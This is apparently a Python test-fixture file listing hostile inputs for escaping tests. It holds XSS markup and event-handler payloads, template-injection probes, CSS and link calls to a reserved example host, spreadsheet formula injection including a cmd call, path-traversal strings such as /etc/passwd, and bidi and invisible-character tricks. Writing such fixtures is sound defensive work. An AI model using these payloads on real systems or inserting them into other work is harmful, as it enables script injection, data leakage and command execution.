"""Text that attacks whoever prints it: markup, templates, links, styles, formulas, directions.

Invented for these tests. Every payload that could run sets `window.ran`; 192.0.2.1 is an
address set aside for examples, and nothing may ask it.
"""

# ruff: noqa: E501

from __future__ import annotations

RUN = "window.ran=1"
AWAY = "http://192.0.2.1"
EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart"),
    *("ontoggle", "onpointerenter", "onbeforeprint", "onscroll", "onwheel", "oninput"),
)
TAGS = ("svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "marquee")
SCRIPTS = (
    *(f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >"),
    *(f"<scr<script>ipt>{RUN}</script>", f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script>"),
    *(f"</script><script>{RUN}</script>", f"</title><script>{RUN}</script>"),
    *(f"</style><script>{RUN}</script>", f"</textarea><script>{RUN}</script>"),
    *(f"]]><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>"),
    *(f"--><script>{RUN}</script>", "<!--<script>", f"<!--><script>{RUN}</script>-->"),
    *(f"<script src={AWAY}/a.js></script>", "<script src=//192.0.2.1/a.js>", "<script>"),
    f'{{"a":"</script><script>{RUN}</script>"}}',
)
HANDLERS = (
    *(f"<img src=x {event}={RUN}>" for event in EVENTS),
    *(f"<{tag} onload={RUN} onerror={RUN} onfocus={RUN} ontoggle={RUN}>" for tag in TAGS),
)
UNCLOSED = (
    *(
        f'"><img src=x onerror={RUN}>',
        f"'><img src=x onerror={RUN}>",
        f"><img src=x onerror={RUN}>",
    ),
    *(
        f'" onmouseover="{RUN}',
        f"' onmouseover='{RUN}",
        f"` onmouseover=`{RUN}",
        f" onfocus={RUN} x=",
    ),
    *(f"<img src=x onerror={RUN} ", f'<img src="x" onerror="{RUN}', f"<a href={AWAY} ", "<", "<x"),
    *(f'" autofocus onfocus="{RUN}" x="', f'\\" onmouseover=\\"{RUN}', f"\"'><svg/onload={RUN}>"),
)
FRAMES = (
    *(f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<iframe src=javascript:parent.{RUN}>"),
    *(f"<iframe src={AWAY}/>", f"<object data=javascript:{RUN}>", f"<embed src={AWAY}/x.swf>"),
    *(
        f"<base href={AWAY}/>",
        f"<form action={AWAY}><button>Go",
        f"<meta http-equiv=refresh content=0;url={AWAY}>",
    ),
    *(f"<link rel=stylesheet href={AWAY}/a.css>", f"<link rel=preload href={AWAY}/a as=image>"),
    f"<isindex type=image src=1 onerror={RUN}>",
)
LINKS = (
    *(f'<a href="javascript:{RUN}">more</a>', f'<a href="JaVaScRiPt:{RUN}">more</a>'),
    *(f'<a href="java\tscript:{RUN}">more</a>', f'<a href="&#106;avascript:{RUN}">more</a>'),
    *(
        f'<a href="data:text/html,<script>{RUN}</script>">more</a>',
        f"<a href=vbscript:{RUN}>more</a>",
    ),
    *(
        f"[more](javascript:{RUN})",
        "[more](data:text/html;base64,PHNjcmlwdD4=)",
        f"![x]({AWAY}/a.png)",
    ),
    *(
        f"<javascript:{RUN}>",
        f"[x]: javascript:{RUN}",
        f"<{AWAY}>",
        f"javascript:{RUN}",
        f"{AWAY}/a.png",
    ),
    f'<a href="{AWAY}" ping="{AWAY}">more</a>',
)
DRAWN = (
    *(f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN}>"),
    *(
        f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
        f"<svg><image href={AWAY}/a>",
    ),
    *(f"<svg><use href={AWAY}/a#x>", f"<svg><foreignObject><img src=x onerror={RUN}>"),
    *(f"<math><mi xlink:href=javascript:{RUN}>x", f"<math><mtext><img src=x onerror={RUN}>"),
    *(
        f"<svg><set attributeName=href to=javascript:{RUN}>",
        f"<svg><style>*{{background:url({AWAY})}}",
    ),
)
MUTATED = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<listing>&lt;img src=1 onerror={RUN}&gt;</listing>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<select><template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<table><td background={AWAY}/a><tr><script>{RUN}</script>",
    f"<plaintext><img src=x onerror={RUN}>",
)
ENTITIES = (
    *(
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&#60;script&#62;{RUN}&#60;/script&#62;",
        "&#x3c;b&#x3e;",
    ),
    *(
        f"&amp;lt;script&amp;gt;{RUN}",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"\\u003cscript\\u003e{RUN}",
    ),
    *(f"\\x3cscript\\x3e{RUN}", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", "&notanentity;", "&"),
    *(
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"\u2039script\u203a{RUN}",
        f"\u02c2script\u02c3{RUN}",
    ),
)
TEMPLATES = (
    *("{{ 7 * 7 }}", "{% for x in y %}", "{# x #}", "{{ ''.__class__.__mro__ }}", "{{ config }}"),
    *(
        "${window.ran=1}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{segment.__class__}",
        "%s%n%(x)s",
        "%{x}%{customdata}",
    ),
    *(
        "$\\href{javascript:window.ran=1}{x}$",
        "\\(x\\)",
        "{{constructor.constructor('window.ran=1')()}}",
    ),
    *("<% window.ran=1 %>", "`${window.ran=1}`", "[[${7*7}]]", "{{{ x }}}"),
)
STYLES = (
    *(f"<style>@import '{AWAY}/a.css'</style>", f"<style>*{{background:url({AWAY}/a)}}</style>"),
    *(f"<p style=background:url({AWAY}/a)>x", f"<p style='width:expression({RUN})'>x"),
    *(f"<p style='-moz-binding:url({AWAY}/a)'>x", "</span><span style='position:fixed;inset:0'>x"),
    *(
        f"color:red;background:url({AWAY}/a)",
        "<style>@keyframes x{}</style>",
        f"@import url({AWAY}/a);",
    ),
    *("<b>bold</b>", "<br>", "<sub>x</sub>", "<font color=red>x"),
)
FORMULAS = (
    *('=HYPERLINK("http://192.0.2.1")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "|cmd", '"=1+1', " =1+1", "\n=1+1"),
    *("=cmd|'/c calc'!A0", "%0A=1+1", ";=1+1", ",=1+1"),
)
PATHS = (
    *("../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "nul.txt", "x. ", "...", "."),
    *("~root", "file:///etc/passwd", "x" * 400, "index.html", "a/b", "-rf", "%2e%2e%2f", "assets"),
)
HIDDEN = (
    *(
        "a\u202egnp.exe",
        "\u202dabc",
        "\u2066abc",
        "\u2067abc\u2069",
        "\u2068abc",
        "\u200fabc",
        "\u200eabc",
    ),
    *(
        "a\u200bb",
        "a\u200cb",
        "a\u2060b",
        "\ufeffabc",
        "a\u00adb",
        "\u061cabc",
        "a\u2028b",
        "a\u2029b",
    ),
    *(
        "a\x00b",
        "a\x08b",
        "a\x1bb",
        "a\x7fb",
        "a\x85b",
        "\ufff9a\ufffab\ufffb",
        "\U000e0041b",
        "a\ue000b",
    ),
    *(
        "\u05d0\u05d1 (12)",
        "a" + "\u0301" * 60,
        "\U0001f468\u200d\U0001f469",
        "\x0c<b>",
        "<\x00script>",
    ),
)
MARKUP = (*SCRIPTS, *HANDLERS, *UNCLOSED, *FRAMES, *LINKS, *DRAWN, *MUTATED)
ALL = (*MARKUP, *ENTITIES, *TEMPLATES, *STYLES, *FORMULAS, *PATHS, *HIDDEN)
# What turns the direction of text around it, or hides in it; no page may print one of these.
TURNING = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
